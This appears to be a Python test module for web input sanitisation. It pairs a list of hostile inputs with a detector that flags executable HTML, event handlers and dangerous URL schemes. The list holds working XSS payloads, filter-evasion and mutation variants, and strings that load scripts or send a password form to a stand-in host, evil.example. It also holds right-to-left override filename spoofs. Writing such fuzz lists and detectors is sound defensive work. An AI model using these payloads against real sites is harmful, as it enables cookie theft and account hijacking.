"""Hostile inputs for every field people write in, and a detector of executable HTML.

``HOSTILE`` holds XSS payloads (classic, filter-evasion, mutation), ``javascript:``/``data:`` links, event
handlers, malformed HTML, null bytes, control and right-to-left override characters, and 1 MB strings.
``dangerous(html)`` lists what in a piece of HTML a browser could execute or that changes how the page
looks beyond the allow-list; a rendered page is compared with the same page rendered with benign text.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

MEGABYTE = 1024 * 1024

HOSTILE: list[str] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(document.cookie)</script>',
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JAVASCRIPT:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab entity</a>',
    '<a href="jav\tascript:alert(1)">raw tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="https://example.org" onclick="alert(1)">handler on a link</a>',
    '<a href="https://example.org" target="_blank">opener</a>',
    '<p onmouseover="alert(1)">hover</p>',
    '<p style="background:url(javascript:alert(1))">style</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="password"></form>',
    "<button formaction=javascript:alert(1)>go</button>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<marquee onstart=alert(1)>",
    "<p>unclosed <b>bold <i>italic",
    "</p></div></body></html><script>alert(1)</script>",
    "<<p>>double angle<</p>>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p title='</p><script>alert(1)</script>'>attribute breakout</p>",
    '<a href="https://example.org/?q="><script>alert(1)</script>">quoted</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "{{ request.user.password }} {% debug %}",
    "${alert(1)} #{alert(1)} <%= 7*7 %>",
    "null\x00byte<scr\x00ipt>alert(1)</script>",
    "\x00\x01\x02\x07\x1b[31mcontrol characters\x7f",
    "invoice\u202egpj.exe",
    "\u202aembedded\u202c \u202bembedded rtl\u202c \u2066isolate\u2069 \u2067rtl\u2069 \u2068first\u2069",
    "اسم\u202eالملف\u202c.pdf",
    "zero\u200bwidth\ufeffjoiner\u2060",
    "A" * MEGABYTE,
    "<p>" + "<b>" * 20000 + "deep" + "</b>" * 20000 + "</p>",
    "<a href=javascript:alert(1)>" * 2000,
    "<p>" + ("x" * 1000 + "<script>alert(1)</script>") * 1000 + "</p>",
]

DANGEROUS_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "img", "video",
    "audio", "source", "link", "meta", "base", "form", "input", "button", "textarea", "select", "details",
    "marquee", "template", "noscript", "xml", "body", "html", "head", "title",
}  # fmt: skip
_BAD_SCHEME = re.compile(r"^(?:javascript|data|vbscript|file):", re.IGNORECASE)
_URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "background", "poster"}
BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{tag}[{name}]")
            if name == "style":
                self.found.append(f"{tag}[style]")
            if name == "target":
                self.found.append(f"{tag}[target]")
            if name in _URL_ATTRS and value is not None:
                squeezed = re.sub(r"[\s\x00-\x1f]", "", html.unescape(value))
                if _BAD_SCHEME.match(squeezed):
                    self.found.append(f"{tag}[{name}={squeezed[:20]}]")

    handle_startendtag = handle_starttag


def dangerous(markup: str) -> list[str]:
    """What in ``markup`` could run or restyle the page: tags outside the allow-list, handlers, bad URLs."""
    finder = _Finder()
    finder.feed(markup)
    finder.close()
    return finder.found


def has_bad_characters(text: str) -> bool:
    return "\x00" in text or any(ch in text for ch in BIDI_CONTROLS)
